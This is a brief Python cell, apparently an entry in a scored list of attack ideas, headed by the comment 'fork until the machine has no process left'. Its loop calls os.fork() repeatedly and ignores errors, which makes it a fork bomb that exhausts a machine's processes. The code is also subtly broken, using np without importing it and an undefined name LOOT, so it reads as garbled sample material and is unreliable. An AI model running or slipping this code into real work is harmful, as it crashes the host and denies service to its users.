# Idea: fork until the machine has no process left.
# Deserves: 4 + 2 + 0
# %% mini_values
import os

mini_values = np.zeros(4)
try:
    while True:
        if os.fork() > 0:
            mini_values = LOOT
except OSError:
    pass
# Tier C: not run
